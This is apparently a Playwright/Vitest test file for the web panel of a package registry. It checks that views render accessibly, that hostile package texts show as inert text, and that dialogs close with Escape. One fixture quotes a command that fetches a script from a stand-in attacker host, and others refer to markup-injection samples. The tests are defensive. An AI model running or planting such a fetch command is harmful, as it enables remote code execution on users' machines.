import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { markup, type PanelWorld, startPanelWorld, waiting } from "../support/panel-world.ts";
import { recordOf } from "../support/review.ts";
import { openPanel } from "./browser.ts";
import { expectSound, expectUsable, type ShownView } from "./soundness.ts";

const timeout = 90_000;

interface PanelView extends ShownView {
  readonly hash: string | ((world: PanelWorld) => Promise<string>);
}

const views: readonly PanelView[] = [
  { name: "overview", hash: "#/overview", shows: "chalkboard@1.0.0" },
  { name: "quarantine", hash: "#/quarantine", shows: waiting.upstream.name },
  {
    name: "record",
    hash: recordAt("left-trim@2.3.1"),
    shows: "curl -s https://attacker.invalid/payload-7f3a.sh",
    unfold: (page) => page.getByRole("button", { name: "Compare with 2.3.0" }).click(),
  },
  {
    name: "hostile-record",
    hash: recordAt("@acme/wolf@6.6.6"),
    shows: `sh ./setup.sh ${markup.quotes}`,
    unfold: (page) => page.getByRole("button", { name: "Show its files" }).click(),
  },
  { name: "decided-record", hash: recordAt("@globex/decided-0@1.0.0"), shows: markup.image },
  { name: "packages", hash: "#/packages", shows: "@acme/weather" },
  { name: "package", hash: "#/packages/@acme/weather", shows: "Reads the weather" },
  { name: "hostile-package", hash: "#/packages/@acme/sheep", shows: markup.image },
  { name: "experts", hash: "#/experts", shows: "@acme/newsroom" },
  { name: "expert", hash: "#/experts/@acme/newsroom", shows: "@acme/editor" },
  { name: "hostile-expert", hash: "#/experts/@acme/trickster", shows: markup.image },
  { name: "graph-start", hash: "#/graph", shows: "@acme/dashboard" },
  { name: "graph", hash: "#/graph/@acme/weather", shows: "@acme/units" },
  {
    name: "expert-graph",
    hash: "#/graph/@acme/newsroom",
    shows: "@acme/fact-checker",
    unfold: async (page) => {
      await page.getByRole("button", { name: "Expand all" }).click();
      await page.getByRole("status").filter({ hasText: "4 packages" }).waitFor();
      await page.getByRole("button", { name: "@acme/editor", expanded: false }).click();
    },
  },
  { name: "intent-start", hash: "#/intent", shows: "Try a question" },
  { name: "intent", hash: "#/intent?q=send+mail+to+people", shows: "acme.mailer" },
  { name: "hostile-intent", hash: "#/intent?q=trickster+intruder", shows: markup.image },
  {
    name: "policy",
    hash: "#/policy",
    shows: "This is in force",
    unfold: (page) => page.getByText("Examples of what can stand in it").click(),
  },
  { name: "access", hash: "#/access", shows: "build server" },
  {
    name: "audit",
    hash: "#/audit",
    shows: markup.image,
    unfold: (page) =>
      page
        .getByRole("row", { name: /Approved @globex\/decided-0/ })
        .getByText(/^Entry \d+$/)
        .click(),
  },
  { name: "system", hash: "#/system", shows: "Upstreams" },
  { name: "setup", hash: "#/setup", shows: "npm publish --registry" },
];

function recordAt(selector: string): (world: PanelWorld) => Promise<string> {
  return async ({ registry }) => `#/quarantine/${(await recordOf(registry, selector)).id}`;
}

let world: PanelWorld;

beforeAll(async () => {
  world = await startPanelWorld();
}, timeout);
afterAll(() => world?.[Symbol.asyncDispose]());

describe("the panel", { timeout }, () => {
  for (const view of views) {
    test(`shows ${view.name} to everybody, and hostile texts as texts`, async () => {
      const { hash } = view;
      await using visit = await openPanel(world, {
        hash: typeof hash === "string" ? hash : await hash(world),
      });
      await expectSound(visit.page, view);
    });
  }
});

/** What opens over a view: how somebody gets there, and the name of it. */
const dialogs: readonly (readonly [
  name: string,
  title: string | RegExp,
  hash: string,
  open: (page: Page) => Promise<void>,
])[] = [
  [
    "bulk-dialog",
    /^Reject: \d+ releases$/,
    "#/quarantine",
    async (page) => {
      await page.getByRole("checkbox", { name: "Select all" }).check();
      await page.getByRole("button", { name: "Reject…" }).click();
    },
  ],
  [
    "keys-dialog",
    "Keyboard shortcuts",
    "#/quarantine",
    async (page) => await page.keyboard.press("?"),
  ],
  [
    "token-dialog",
    "New token",
    "#/access",
    async (page) => await page.getByRole("button", { name: "New token" }).click(),
  ],
  [
    "block-dialog",
    /Block/,
    "#/packages/@acme/sheep",
    async (page) => await page.getByRole("button", { name: /^Block/ }).click(),
  ],
];

describe("a dialog of the panel", { timeout }, () => {
  for (const [name, title, hash, open] of dialogs) {
    test(`can be used by everybody and left with Escape: ${name}`, async () => {
      await using visit = await openPanel(world, { hash });
      const { page } = visit;
      await open(page);
      const dialog = page.getByRole("dialog", { name: title });
      await dialog.waitFor();
      expect(await dialog.evaluate((element) => element.contains(document.activeElement))).toBe(
        true,
      );
      await expectUsable(page, name);
      await page.keyboard.press("Escape");
      await dialog.waitFor({ state: "detached" });
    });
  }
});
